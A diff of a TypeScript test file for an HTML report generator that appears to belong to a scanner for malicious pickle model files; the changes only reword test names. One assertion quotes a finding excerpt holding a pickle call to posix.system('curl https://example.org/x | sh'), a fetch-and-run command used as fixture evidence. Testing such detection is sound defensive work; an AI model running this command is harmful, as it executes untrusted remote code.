@@ -15,13 +15,13 @@ function section(parsed: ReturnType<typeof parseHtml>, id: string): string {
   return found === undefined ? '' : textOf(found).replace(/\s+/g, ' ');
 }
 
-describe('the review', () => {
-  it('is the frozen one', async () => {
+describe('the HTML review', () => {
+  it('equals the golden file', async () => {
     await expect(mixedReview()).toMatchFileSnapshot('../golden/review.html');
     await expect(cleanReview()).toMatchFileSnapshot('../golden/review-clean.html');
   });
 
-  it('is well-formed, and every link leads somewhere in it', () => {
+  it('is well formed, and every link has a target in it', () => {
     for (const html of [mixedReview(), cleanReview()]) {
       const parsed = parseHtml(html);
       expect(parsed.errors).toEqual([]);
@@ -39,13 +39,13 @@ describe('the review', () => {
     for (const [i, level] of levels.entries()) expect(level).toBeLessThanOrEqual((levels[i - 1] ?? 0) + 1);
   });
 
-  it('says first how much of the ten risks was assessed', () => {
+  it('states first how many of the ten risks were assessed', () => {
     expect(section(parseHtml(mixedReview()), 'owasp')).toMatch(
       /^ 2 OWASP Machine Learning Security Top 10 Assessed \d+\/10, direct \d+\/10\. /,
     );
   });
 
-  it('shows what stands where a finding points, and what waives it', () => {
+  it('shows the excerpt at a finding, and its waiver', () => {
     const text = section(parseHtml(mixedReview()), 'findings');
     expect(text).toContain("▸42 REDUCE # posix.system('curl https://example.org/x | sh')");
     expect(text).toContain('▸00000000 80 04 95 2a 00 00 00 63 ···*···c');
@@ -53,7 +53,7 @@ describe('the review', () => {
     expect(text).toContain('Waived by ada@example.org until 2026-06-30: our own class, reviewed');
   });
 
-  it('tells what it does not vouch for', () => {
+  it('states what it does not cover', () => {
     const text = section(parseHtml(mixedReview()), 'unseen');
     expect(text).toContain('Unknown extra/cut.pkl the pickle ends before its STOP');
     expect(text).toContain('extra/cut.pkl: 100 bytes of 1000 bytes, the first at byte 900');
@@ -63,7 +63,7 @@ describe('the review', () => {
     expect(text).toContain('Not assessed format.onnx.scan: no scanner judges ONNX yet');
   });
 
-  it('never calls incomplete, unsigned or undigested what it does not say so of', () => {
+  it('states "incomplete", "unsigned" and "no digest" only when they apply', () => {
     const open = assessment({ status: 'incomplete', artifact: { ref: './m', pinned: './m', digest: null } });
     const parsed = reviewOf({ ...judged(), assessment: open });
     expect(parsed.text).toContain('The review is incomplete: part of the artifact could not be read.');
@@ -75,14 +75,14 @@ describe('the review', () => {
     expect(section(complete, 'provenance')).not.toContain('nothing proves');
   });
 
-  it('offers no waiver for what is malicious', () => {
+  it('offers no waiver for a malicious file', () => {
     const bad = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'malicious' })] }));
     expect(section(bad, 'summary')).toContain('A malicious file cannot be waived');
     const odd = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'suspicious' })] }));
     expect(section(odd, 'summary')).toContain('or a waiver allows this one');
   });
 
-  it('draws an unread byte, however few there are', () => {
+  it('draws a single unread byte', () => {
     const size = 1_000_000_000;
     const coverage = {
       ranges: [{ start: 0, end: size - 1, kind: 'opaque' as const }],
@@ -94,17 +94,17 @@ describe('the review', () => {
     expect(bars.map((rect) => attribute(rect, 'x'))).toEqual(['0', '199']);
   });
 
-  it('names a paper when it is told one', () => {
+  it('sets the page size to the given paper', () => {
     expect(mixedReview({ paper: 'letter' })).toContain('@page { size: letter; }');
     expect(mixedReview()).not.toMatch(/@page \{ size/);
   });
 });
 
-describe('many findings', () => {
+describe('many findings in a review', () => {
   const places = (parsed: ReturnType<typeof parseHtml>) =>
     all(parsed, 'li').filter((li) => attribute(li, 'id')?.startsWith('f-'));
 
-  it('are shown in full up to 500, the rest in a line each, and the review says so', () => {
+  it('are shown in full up to 500, and the rest in a line each, with a note', () => {
     const parsed = reviewOf(manyFindings(1_234));
     expect(places(parsed)).toHaveLength(500);
     const text = section(parsed, 'findings');
@@ -114,11 +114,11 @@ describe('many findings', () => {
     expect(section(reviewOf(manyFindings(500)), 'findings')).not.toContain('in a line each');
   });
 
-  it('beyond ten thousand lines are counted', () => {
+  it('are only counted beyond ten thousand lines', () => {
     expect(section(reviewOf(manyFindings(11_000)), 'findings')).toContain('500 more findings only counted');
   });
 
-  it('of one rule leave room for those of others', () => {
+  it('of one rule leave room for findings of other rules', () => {
     const findings = [
       ...Array.from({ length: 900 }, (_, i) => finding(CALL_RULE, { file: 'a.pkl', offset: i, evidence: String(i) })),
       ...Array.from({ length: 30 }, (_, i) =>
@@ -130,7 +130,7 @@ describe('many findings', () => {
     expect(ids.filter((id) => id.startsWith('f-2.'))).toHaveLength(20);
   });
 
-  it('are rendered within a bound', () => {
+  it('give a document of bounded size', () => {
     const many = manyFindings(10_000);
     const html = renderHtml(many, context, { now: NOW });
     expect(html.length).toBeLessThan(8_000_000);
